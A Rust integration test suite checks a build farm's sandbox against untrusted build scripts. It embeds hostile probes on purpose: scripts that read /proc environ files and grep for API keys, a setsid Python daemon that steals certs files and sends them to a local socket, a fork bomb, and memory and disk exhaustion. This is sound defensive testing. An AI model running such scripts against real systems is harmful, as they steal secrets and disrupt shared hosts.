//! Builds are untrusted code: with the real binaries, a hostile `build.sh` finds no secret in its
//! environment, the worker's processes or files; what it leaves running (even after `setsid`)
//! dies with it, so it never reads the next build's certs; a cancel ends every process it
//! started; concurrent builds run as different uids; a fork bomb meets its uid's process limit;
//! a build that fills its memory, its disk or its inodes fails alone; the system-call filter
//! refuses new user namespaces and ptrace; and `FREEAGENT_SANDBOX=none` says loudly that builds
//! are not isolated.
#![allow(clippy::expect_used, clippy::unwrap_used)]

use freeagent_tests::env;
use freeagent_tests::freeagent_shared::testing::wait;
use freeagent_tests::{
    API_KEY, Farm, FarmOpts, REGISTRATION_KEY, SECRET, is_root, processes_with, project,
};
use serde_json::Value;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

async fn wait_none_left(marker: &str, within: Duration) -> Duration {
    let started = Instant::now();
    loop {
        let left = processes_with(marker);
        if left.is_empty() {
            return started.elapsed();
        }
        assert!(
            started.elapsed() < within,
            "processes {left:?} of the build still run {within:?} after it ended"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn submit_with_certs(farm: &Farm, dir: &std::path::Path, certs: &[u8]) -> String {
    farm.submit_dir_with_certs(dir, "android", Some(certs))
        .await["id"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn id_of(submitted: Value) -> String {
    submitted["id"].as_str().unwrap().to_owned()
}

/// What every connection to a local TCP port sent: a build's way out when it shares the
/// worker's network (`FREEAGENT_BUILD_NETWORK=host`), used here as a daemon's exfiltration
/// channel.
async fn listener() -> (u16, Arc<Mutex<String>>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(String::new()));
    let sink = got.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let sink = sink.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let _ = tokio::io::AsyncReadExt::read_to_end(&mut s, &mut buf).await;
                sink.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&buf));
            });
        }
    });
    (port, got)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_finds_no_secret_in_its_environment_the_workers_processes_or_files() {
    let farm = Farm::start(FarmOpts::default()).await;
    let worker = farm.pid("worker-0").unwrap();
    let data = farm.data.path().display().to_string();
    let dir = project(&format!(
        "echo '--- env'\n\
         env\n\
         echo '--- worker'\n\
         if [ -e /proc/{worker} ]; then echo 'WORKER PROCESS VISIBLE'; fi\n\
         tr '\\0' '\\n' < /proc/{worker}/environ\n\
         tr '\\0' ' ' < /proc/{worker}/cmdline; echo\n\
         ls -l /proc/{worker}/cwd/ /proc/{worker}/root/{data}\n\
         echo '--- every process'\n\
         ls /proc\n\
         for f in /proc/*/environ; do echo \"$f\"; tr '\\0' '\\n' < \"$f\"; done\n\
         # (Patterns split in two, so that this script does not find itself.)\n\
         echo '--- files'\n\
         ls -la {data} {data}/work /tmp /var/tmp /dev/shm\n\
         cat {data}/*.log | tail -n 50\n\
         find {data} -type f 2>&1 | head -n 50\n\
         grep -rsI -D skip -e 'FREEAGENT_''API_KEY' -e 'si''g=' {data} /root /home /etc 2>/dev/null | head -n 20\n\
         echo '--- end'\n\
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
    ));
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    let logs = farm.logs(&id).await;
    let all = logs.join("\n");

    // The build ran its probes, and printed its environment: only the documented variables.
    assert!(all.contains("--- end"), "{all}");
    let start = logs.iter().position(|l| l == "--- env").unwrap();
    let end = logs.iter().position(|l| l == "--- worker").unwrap();
    let names: Vec<&str> = logs[start + 1..end]
        .iter()
        .filter_map(|l| l.split_once('=').map(|(k, _)| k))
        .collect();
    assert!(names.contains(&"FREEAGENT_BUILD_ID"), "{names:?}");
    for name in &names {
        assert!(
            [
                "FREEAGENT_BUILD_ID",
                "FREEAGENT_ATTEMPT",
                "FREEAGENT_PLATFORM",
                "FREEAGENT_SOURCE_DIR",
                "FREEAGENT_OUTPUT_DIR",
                "PATH",
                "HOME",
                "TMPDIR",
                "LANG",
                // Set by the shell itself.
                "PWD",
                "OLDPWD",
                "SHLVL",
                "_",
            ]
            .contains(name),
            "the build saw {name}: {names:?}"
        );
    }
    assert!(!all.contains("WORKER PROCESS VISIBLE"), "{all}");
    // The worker holds the registration key; the other services (whose environments a build
    // could read through /proc if it saw them) hold the rest.
    for secret in [
        API_KEY,
        REGISTRATION_KEY,
        SECRET,
        farm.db.url.as_str(),
        "FREEAGENT_NATS",
        "sig=",
    ] {
        assert!(
            !all.contains(secret),
            "the build's log holds {secret:?}:\n{all}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_setsid_daemon_dies_with_its_build_and_the_scratch_directory_is_deleted() {
    let farm = Farm::start(FarmOpts::default()).await;
    let marker = format!("fa-daemon-{}", uuid::Uuid::new_v4());
    let dir = project(&format!(
        "setsid sh -c 'while true; do date > /tmp/x; sleep 0.1; done; : {marker}' > /dev/null 2>&1 &\n\
         echo scratch > \"$HOME/file\"\n\
         i=0; while [ ! -s /tmp/x ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done\n\
         if [ -s /tmp/x ]; then echo 'daemon running'; fi\n\
         echo \"home=$HOME\"\n\
         sleep 1\n\
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
    ));
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    // The daemon runs (and this test can see it from the host) while the build does.
    wait::until("the daemon to start", Duration::from_secs(30), || async {
        (!processes_with(&marker).is_empty()).then_some(())
    })
    .await;
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    let took = wait_none_left(&marker, Duration::from_secs(2)).await;
    eprintln!("the daemon was gone {took:?} after the build was seen to end");
    let logs = farm.logs(&id).await;
    assert!(logs.iter().any(|l| l == "daemon running"), "{logs:?}");

    // HOME was the build's scratch, inside its workspace; the workspace is gone.
    let home = logs
        .iter()
        .find_map(|l| l.strip_prefix("home="))
        .unwrap()
        .to_owned();
    assert!(home.starts_with(&farm.data.path().join("work").display().to_string()));
    wait::until(
        "the workspace to be deleted",
        Duration::from_secs(5),
        || async {
            std::fs::read_dir(farm.data.path().join("work"))
                .unwrap()
                .next()
                .is_none()
                .then_some(())
        },
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daemon_left_by_one_build_never_reads_the_next_builds_certs() {
    let farm = Farm::start(FarmOpts {
        workers: 1,
        // Not root, builds share the worker's uid: certs need the operator's explicit yes.
        // The thief reports over the worker's loopback, so builds share its network here.
        extra_env: if is_root() {
            env(&[("FREEAGENT_BUILD_NETWORK", "host")])
        } else {
            env(&[
                ("FREEAGENT_SANDBOX", "userns"),
                ("FREEAGENT_BUILD_NETWORK", "host"),
            ])
        },
        ..Default::default()
    })
    .await;
    let (port, got) = listener().await;
    let marker = format!("fa-thief-{}", uuid::Uuid::new_v4());
    let work = farm.data.path().join("work").display().to_string();
    // The thief sends every certs file it can read to the test's port, over and over: its
    // own (proof that the channel works) and, if it could, the next build's.
    let thief = r#"
import glob, os, socket, sys, time
port = int(sys.argv[1])
while True:
    paths = glob.glob(sys.argv[2] + '/*/certs') + glob.glob('/tmp/**/certs', recursive=True)
    for f in paths + [os.environ.get('FREEAGENT_CERTS_PATH', '')]:
        try:
            data = open(f).read()
            s = socket.create_connection(('127.0.0.1', port), timeout=1)
            s.sendall((f + ': ' + data + '\n').encode())
            s.close()
        except Exception:
            pass
    time.sleep(0.05)
"#;
    let first = project(&format!(
        "cat > \"$TMPDIR/thief.py\" <<'EOF'\n{thief}\nEOF\n\
         setsid python3 \"$TMPDIR/thief.py\" {port} {work} {marker} > /dev/null 2>&1 &\n\
         sleep 1\n\
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
    ));
    let second = project(
        "stat -c 'certs owner %u mode %a' \"$FREEAGENT_CERTS_PATH\"\n\
         echo \"uid $(id -u)\"\n\
         sleep 1\n\
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
    );
    let one = submit_with_certs(&farm, first.path(), b"CERTS-OF-BUILD-ONE").await;
    let b = farm.wait_terminal(&one, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    assert!(
        got.lock().unwrap().contains("CERTS-OF-BUILD-ONE"),
        "the thief never reported (is python3 installed?): {:?}",
        farm.logs(&one).await
    );
    wait_none_left(&marker, Duration::from_secs(2)).await;

    let two = submit_with_certs(&farm, second.path(), b"CERTS-OF-BUILD-TWO").await;
    let b = farm.wait_terminal(&two, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let stolen = got.lock().unwrap().clone();
    assert!(
        !stolen.contains("CERTS-OF-BUILD-TWO"),
        "build one's daemon read build two's certs:\n{stolen}"
    );
    // The second build's certs were its uid's alone.
    let logs = farm.logs(&two).await;
    let uid = logs
        .iter()
        .find_map(|l| l.strip_prefix("uid "))
        .unwrap()
        .to_owned();
    assert!(
        logs.contains(&format!("certs owner {uid} mode 600")),
        "{logs:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancel_ends_every_process_a_sandboxed_build_started() {
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[("FREEAGENT_KILL_GRACE", "1s")]),
        ..Default::default()
    })
    .await;
    let marker = format!("fa-stubborn-{}", uuid::Uuid::new_v4());
    // Both the build and its daemon ignore SIGTERM: only the SIGKILL after the grace ends them.
    let dir = project(&format!(
        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done; : {marker}' > /dev/null 2>&1 &\n\
         exec sh -c 'trap \"\" TERM; while true; do sleep 0.1; done; : {marker}'\n"
    ));
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    wait::until("both processes to run", Duration::from_secs(30), || async {
        (processes_with(&marker).len() >= 2).then_some(())
    })
    .await;
    let r = farm
        .http
        .post(format!("{}/api/builds/{id}/cancel", farm.gateway))
        .header("x-api-key", API_KEY)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let took = wait_none_left(&marker, Duration::from_secs(4)).await;
    eprintln!("every process of the cancelled build was gone after {took:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn builds_running_at_once_run_as_different_uids() {
    if !is_root() {
        eprintln!("not root: builds keep the worker's uid; nothing to check");
        return;
    }
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[
            ("FREEAGENT_WORKER_MAX_CONCURRENT", "2"),
            ("FREEAGENT_WORKER_PLATFORMS", "android"),
        ]),
        ..Default::default()
    })
    .await;
    let marker = format!("fa-pair-{}", uuid::Uuid::new_v4());
    let dir = project(&format!("exec sh -c 'sleep 60; : {marker}'\n"));
    let a = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = id_of(farm.submit_dir(dir.path(), "android").await);
    let uids: Vec<u32> = wait::until("both builds to run", Duration::from_secs(30), || async {
        let mut uids: Vec<u32> = processes_with(&marker).into_iter().map(|p| p.1).collect();
        uids.sort();
        uids.dedup();
        (uids.len() == 2).then_some(uids)
    })
    .await;
    // Builds get uids of their own, never root's.
    assert!(uids.iter().all(|u| *u != 0), "{uids:?}");
    for id in [a, b] {
        farm.http
            .post(format!("{}/api/builds/{id}/cancel", farm.gateway))
            .header("x-api-key", API_KEY)
            .send()
            .await
            .unwrap();
    }
    wait_none_left(&marker, Duration::from_secs(10)).await;
}

/// A fork bomb's build meets its uid's process limit (`FREEAGENT_SANDBOX_MAX_PROCESSES`, here
/// 32): it cannot start 40 sleeps, fails with its shell's "Cannot fork" in the log, and leaves
/// nothing running. Each child holds its slot (the forked process becomes the sleep), so where
/// the loop stops never depends on how fast children die.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_meets_the_builds_process_limit() {
    if !is_root() {
        eprintln!("not root: builds share the worker's uid and get no process limit");
        return;
    }
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[("FREEAGENT_SANDBOX_MAX_PROCESSES", "32")]),
        ..Default::default()
    })
    .await;
    let marker = format!("fa-bomb-{}", uuid::Uuid::new_v4());
    // The sleeps run under a name holding the marker, so the host can find any left over.
    let dir = project(&format!(
        "ln -s \"$(command -v sleep)\" \"$HOME/{marker}\"\n\
         i=0; while [ $i -lt 40 ]; do \"$HOME/{marker}\" 60 & i=$((i+1)); echo \"started $i\"; done\n\
         echo 'started all'\n\
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
    ));
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "failed", "{b}");
    let logs = farm.logs(&id).await;
    let all = logs.join("\n");
    assert!(!logs.iter().any(|l| l.ends_with("started all")), "{all}");
    assert!(all.contains("fork"), "{all}");
    let started = logs
        .iter()
        .filter_map(|l| l.rsplit_once("started ")?.1.parse::<u32>().ok())
        .max()
        .unwrap_or(0);
    assert!((1..32).contains(&started), "{all}");
    wait_none_left(&marker, Duration::from_secs(10)).await;
}

/// The attack: a build wrote 3.5 GiB into `/dev/shm` and the host's out-of-memory killer took
/// nats-server, every service and both workers before the build. Now a build that fills its
/// temp directories (each under its own size) past its memory limit fails alone, once, as a
/// build failure that says why; a build running beside it on the same worker completes (its
/// processes run with `oom_score_adj` 1000: builds go first even on an overcommitted machine),
/// the worker keeps running and its next build completes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_that_fills_its_memory_fails_alone_and_the_next_build_runs() {
    if !is_root() {
        eprintln!("not root: this machine gives the worker no cgroups for its builds");
        return;
    }
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[
            ("FREEAGENT_BUILD_MEMORY", "64MiB"),
            ("FREEAGENT_WORKER_MAX_CONCURRENT", "2"),
        ]),
        ..Default::default()
    })
    .await;
    let neighbour = project(
        "cat /proc/self/oom_score_adj
         head -c 16M /dev/zero > /dev/shm/n
         sleep 6
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
    );
    let neighbour = id_of(farm.submit_dir(neighbour.path(), "android").await);
    wait::until("the neighbour to run", Duration::from_secs(60), || async {
        (farm.get_build(&neighbour).await["status"] == "building").then_some(())
    })
    .await;
    let dir = project(
        "set -e
         head -c 40M /dev/zero > /dev/shm/a
         head -c 40M /dev/zero > /tmp/b
         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
    );
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "failed", "{b}");
    assert_eq!(b["attempt"], 1, "a build failure is not retried: {b}");
    assert!(
        b["error_message"]
            .as_str()
            .unwrap()
            .starts_with("out of memory (limit 64 MiB)"),
        "{b}"
    );
    let n = farm
        .wait_terminal(&neighbour, Duration::from_secs(60))
        .await;
    assert_eq!(n["status"], "completed", "the build beside it: {n}");
    assert!(farm.logs(&neighbour).await.iter().any(|l| l == "1000"));
    let dir =
        project("head -c 16M /dev/zero > /dev/shm/a\necho ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n");
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    assert!(farm.log_of("worker-0").contains("memory 64 MiB"));
}

/// Nothing of a farm's build file systems is left on the host: no mount below its work dir,
/// no image in it, no loop device holding one (the kernel detaches a loop device shortly
/// after its last unmount, and a build starting elsewhere on the machine may hold a copy for
/// a moment before its set-up drops it).
async fn no_disk_left(farm: &Farm) {
    let work = farm.data.path().join("work");
    let prefix = work.display().to_string();
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let under: Vec<&str> = mounts.lines().filter(|l| l.contains(&prefix)).collect();
    assert!(under.is_empty(), "still mounted: {under:?}");
    let images: Vec<String> = std::fs::read_dir(&work)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("freeagent-disk-"))
        .collect();
    assert!(images.is_empty(), "images left: {images:?}");
    let started = Instant::now();
    loop {
        let out = std::process::Command::new("losetup")
            .arg("-a")
            .output()
            .unwrap();
        let attached = String::from_utf8_lossy(&out.stdout).into_owned();
        if !attached.contains(&prefix) {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "loop devices still attached: {attached}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The attack: a build's workspace lived on the worker's work dir, so one build could fill the
/// disk (or its inodes) and break every other build and the worker. Now each build has a file
/// system of its own: a build that writes past it, creates too many files, or brings a source
/// that unpacks past it fails alone, once, as a build failure that says which limit; the worker
/// runs its next build; nothing stays mounted or attached on the host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_that_fills_its_disk_or_inodes_fails_alone_and_the_next_build_runs() {
    if !is_root() || !std::path::Path::new("/dev/loop-control").exists() {
        eprintln!("not root, or no loop devices: builds get no disk of their own here");
        return;
    }
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[
            ("FREEAGENT_BUILD_DISK", "64M"),
            ("FREEAGENT_BUILD_INODES", "2000"),
        ]),
        ..Default::default()
    })
    .await;
    let worker = farm.pid("worker-0");
    let big_source = project("echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n");
    // 100 MiB of zeros, a few hundred KiB packed: within the unpack limits, past the disk.
    // (Written, not sparse: the packer would make a sparse entry, which unpacking refuses.)
    std::fs::write(big_source.path().join("zeros"), vec![0u8; 100 << 20]).unwrap();
    let attacks = [
        (
            project(
                "set -e\ndd if=/dev/zero of=big bs=1M count=200\necho ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
            ),
            "disk full (limit 64 MiB, FREEAGENT_BUILD_DISK)",
        ),
        (
            project(
                "set -e\nmkdir many\ni=0; while [ $i -lt 5000 ]; do : > many/$i; i=$((i+1)); done\necho ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
            ),
            "out of inodes (limit 2000, FREEAGENT_BUILD_INODES)",
        ),
        (big_source, "disk full (limit 64 MiB, FREEAGENT_BUILD_DISK)"),
    ];
    for (dir, expect) in &attacks {
        let id = id_of(farm.submit_dir(dir.path(), "android").await);
        let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
        assert_eq!(b["status"], "failed", "{b}");
        assert_eq!(b["attempt"], 1, "a build failure is not retried: {b}");
        let error = b["error_message"].as_str().unwrap();
        eprintln!("failed as expected: {error}");
        assert!(error.starts_with(expect), "{b}");
        no_disk_left(&farm).await;

        let dir = project("head -c 16M /dev/zero > z\necho ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n");
        let id = id_of(farm.submit_dir(dir.path(), "android").await);
        let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
        assert_eq!(b["status"], "completed", "{b}");
        no_disk_left(&farm).await;
    }
    assert_eq!(farm.pid("worker-0"), worker);
    assert!(
        farm.log_of("worker-0")
            .contains("disk 64 MiB and 2000 inodes"),
        "{}",
        farm.log_of("worker-0")
    );
}

/// The attack: a build could make a user namespace (and with it every namespaced privilege the
/// kernel offers), trace processes, use keyrings. The system-call filter refuses these with
/// EPERM; `FREEAGENT_BUILD_SECCOMP=none` lets them through (which shows the test tells the two
/// apart).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_system_call_filter_refuses_user_namespaces_and_ptrace() {
    let script = "cat > \"$TMPDIR/calls.py\" <<'EOF'\n\
        import ctypes, errno\n\
        libc = ctypes.CDLL(None, use_errno=True)\n\
        def check(name, rc):\n\
        \x20   e = ctypes.get_errno()\n\
        \x20   print(name, 'refused' if rc == -1 and e == errno.EPERM else 'allowed', flush=True)\n\
        check('unshare-user', libc.unshare(0x10000000))\n\
        check('ptrace-traceme', libc.ptrace(0, 0, None, None))\n\
        EOF\n\
        python3 \"$TMPDIR/calls.py\"\n\
        unshare --user true && echo 'unshare command allowed' || echo 'unshare command refused'\n\
        echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n";
    for (setting, expect) in [("default", "refused"), ("none", "allowed")] {
        let farm = Farm::start(FarmOpts {
            extra_env: env(&[("FREEAGENT_BUILD_SECCOMP", setting)]),
            ..Default::default()
        })
        .await;
        let dir = project(script);
        let id = id_of(farm.submit_dir(dir.path(), "android").await);
        let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
        assert_eq!(b["status"], "completed", "{b}");
        let logs = farm.logs(&id).await;
        for call in ["unshare-user", "ptrace-traceme"] {
            assert!(
                logs.iter()
                    .any(|l| l.ends_with(&format!("{call} {expect}"))),
                "{setting}: {call} not {expect}: {logs:?}"
            );
        }
        assert!(
            logs.iter()
                .any(|l| l.ends_with(&format!("unshare command {expect}"))),
            "{setting}: {logs:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sandbox_none_runs_builds_with_a_warning_in_every_log() {
    let farm = Farm::start(FarmOpts {
        extra_env: env(&[("FREEAGENT_SANDBOX", "none")]),
        ..Default::default()
    })
    .await;
    let dir = project("echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n");
    let id = id_of(farm.submit_dir(dir.path(), "android").await);
    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
    assert_eq!(b["status"], "completed", "{b}");
    let logs = farm.logs(&id).await;
    assert!(
        logs.iter()
            .any(|l| l.contains("WARNING: FREEAGENT_SANDBOX=none: this build is not isolated")),
        "{logs:?}"
    );
    assert!(farm.log_of("worker-0").contains("BUILDS ARE NOT ISOLATED"));
}
